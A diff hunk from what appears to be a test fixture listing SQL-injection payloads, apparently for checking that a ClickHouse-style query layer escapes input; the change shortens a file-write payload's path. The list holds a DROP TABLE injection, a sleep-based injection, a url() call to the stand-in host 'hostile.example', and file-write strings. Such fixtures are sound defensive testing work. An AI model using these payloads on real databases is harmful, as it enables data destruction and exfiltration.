@@ -59,7 +59,7 @@ const sql: readonly string[] = [
   "'; DROP TABLE findings_raw_v1; SELECT '",
   "' || (SELECT sleep(3)) || '",
   "1) OR (SELECT count() FROM url('https://hostile.example/','CSV','x String')) --",
-  "'; INSERT INTO function file('/tmp/x.csv') SELECT 1 FORMAT CSV; --",
+  "'; INSERT INTO function file('x.csv') SELECT 1 FORMAT CSV; --",
   "%' OR 1=1 --",
   '_%_%',
   'FORMAT JSON SETTINGS max_execution_time=0',
